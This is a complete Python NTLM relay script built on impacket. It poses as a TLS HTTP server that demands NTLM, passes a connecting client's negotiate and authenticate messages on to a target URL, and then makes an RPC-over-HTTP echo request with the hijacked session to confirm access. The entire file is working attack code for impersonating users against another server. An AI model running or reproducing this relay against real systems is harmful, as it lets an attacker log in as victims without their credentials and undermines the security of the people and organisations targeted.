#!/usr/bin/python3
"""An NTLM relay: whoever logs in here is logged in there, by impacket's relay client.

relay.py CERTIFICATE KEY URL
Prints the port it listens on (TLS, with that certificate), waits for the first client that
speaks NTLM, passes its three messages on to URL and prints what the server says: "refused", or
"in" and the status of one more echo request on that connection.
"""
import base64
import re
import socket
import ssl
import sys
import threading
from urllib.parse import urlparse

from impacket.examples.ntlmrelayx.clients.httprelayclient import HTTPSRelayClient
from impacket.nt_errors import STATUS_SUCCESS

ANSWER = ('HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: NTLM%s\r\nContent-Length: 0\r\n'
          'Connection: Keep-Alive\r\n\r\n')
turn = threading.Lock()


class Client(HTTPSRelayClient):
    """It asks for pages; here it makes echo requests of RPC."""

    def initConnection(self):
        done = super().initConnection()
        request = self.session.request
        self.session.request = lambda method, path, headers={}: request(
            'RPC_IN_DATA', path, headers={**headers, 'Content-Length': '0', 'Connection': 'keep-alive'})
        return done


def heads(connection):
    """The Authorization tokens of the requests that come; their bodies are empty."""
    data = b''
    while True:
        while b'\r\n\r\n' not in data:
            more = connection.recv(4096)
            if not more:
                return
            data += more
        head, data = data.split(b'\r\n\r\n', 1)
        found = re.search(rb'(?im)^Authorization: *(?:NTLM|Negotiate) +([A-Za-z0-9+/=]+)', head)
        yield base64.b64decode(found.group(1)) if found else b''


def relay(connection, target):
    there = Client(None, target, target.port)
    there.initConnection()
    for token in heads(connection):
        answer = ANSWER % ''
        if token[8:9] == b'\1':
            challenge = there.sendNegotiate(token)
            if not challenge:
                return 'no challenge'
            answer = ANSWER % (' ' + base64.b64encode(challenge.getData()).decode())
        elif token[8:9] == b'\3':
            said = outcome(there, token)
            connection.sendall(answer.encode())     # so that the client ends, too
            return said
        connection.sendall(answer.encode())
    return 'the client has left'


def outcome(there, token):
    if there.sendAuth(token)[1] != STATUS_SUCCESS:
        return 'refused'
    there.session.request('', there.path)
    return 'in %d' % there.session.getresponse().status


def serve(connection, target):
    try:
        connection = context.wrap_socket(connection, server_side=True)
        with turn:
            print(relay(connection, target), flush=True)
    except OSError:
        pass


certificate, key, url = sys.argv[1:]
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(certificate, key)
listener = socket.create_server(('127.0.0.1', 0))
print(listener.getsockname()[1], flush=True)
while True:
    threading.Thread(target=serve, args=(listener.accept()[0], urlparse(url)), daemon=True).start()
